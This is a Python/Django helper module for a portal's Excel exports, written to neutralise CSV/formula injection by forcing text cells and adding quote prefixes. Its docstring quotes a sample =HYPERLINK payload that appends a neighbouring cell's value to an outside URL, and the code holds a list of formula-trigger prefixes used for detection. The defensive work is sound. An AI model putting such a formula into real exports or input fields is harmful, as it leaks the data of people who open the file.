"""The one way the portal writes a spreadsheet: every export builds its workbook here, writes its cells through
``write_cell`` / ``append_row`` and answers through ``xlsx_response``.

Officials open these files in Excel or LibreOffice, and many cells hold text that anyone may have typed: a task
title, a violation's description, a citizen's answer to a survey. openpyxl stores a text starting with "=" as a
formula, so ``=HYPERLINK("http://…?d="&B2,"Xem chi tiết")`` typed into a title would come out as a live formula
that sends the neighbouring cells away when clicked (CSV/formula injection, OWASP). Here every text is stored as a
text cell, and a text that a spreadsheet would read as a formula (starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return) also gets Excel's "quote prefix": the reader sees exactly what was typed, the program does
not evaluate it on opening, and editing the cell (F2, Enter) keeps it text, as a typed leading apostrophe would.
The text itself is not changed, so an exported list imported back (tasks, households) reads the same values.
Numbers, dates and booleans stay what they are: a negative number is a number, not text.
"""

import datetime
from io import BytesIO

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.http import content_disposition_header

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What a spreadsheet program takes as the start of a formula (OWASP's list: = + - @, tab, carriage return).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text):
    return isinstance(text, str) and text.startswith(FORMULA_PREFIXES)


def cell_value(value):
    """``value`` as openpyxl can store it: lazy translations as text, control characters that the file format
    cannot hold (openpyxl refuses them with an error) dropped, an aware date-time in the portal's time zone (Excel
    has none). Anything else is returned unchanged."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)
    return value


def neutralise(cell):
    """Make ``cell`` inert: text is stored as text (never a formula, never an error code such as "#REF!"), and text
    a spreadsheet would evaluate gets the quote prefix. Returns the cell."""
    value = cell.value
    if isinstance(value, str):
        # openpyxl has already typed "=…" as a formula ("f") and "#N/A" as an error ("e"); the text is what was typed.
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell


def write_cell(sheet, row, column, value):
    """``sheet.cell(row, column, value)`` made safe."""
    cell = sheet.cell(row=row, column=column)
    cell.value = cell_value(value)
    return neutralise(cell)


def append_row(sheet, values):
    """``sheet.append(values)`` made safe, in a normal or a write-only workbook. A value may be an openpyxl cell
    made by the caller (a styled ``WriteOnlyCell``); it is made safe too. Returns the cells written."""
    from openpyxl.cell import Cell, WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            if isinstance(value, Cell):
                value.value = cell_value(value.value)
                cell = value
            else:
                cell = WriteOnlyCell(sheet, value=cell_value(value))
            cells.append(neutralise(cell))
        sheet.append(cells)
        return cells
    values = [cell_value(value.value if isinstance(value, Cell) else value) for value in values]
    sheet.append(values)
    row = sheet._current_row  # the row append() just wrote, empty rows included
    return [neutralise(sheet.cell(row=row, column=column)) for column in range(1, len(values) + 1)]


def new_workbook(write_only=False):
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def workbook_bytes(workbook):
    """The .xlsx file of ``workbook``. Every cell of a normal workbook goes through ``neutralise`` once more, so a
    cell written some other way (``sheet["A1"] = …``, a formula string) cannot leave the portal live. A write-only
    workbook holds no cells any more: its rows were made safe by ``append_row``."""
    if not workbook.write_only:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        neutralise(cell)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(content, filename):
    """A download of ``content`` (the bytes of an .xlsx file) named ``filename``."""
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response
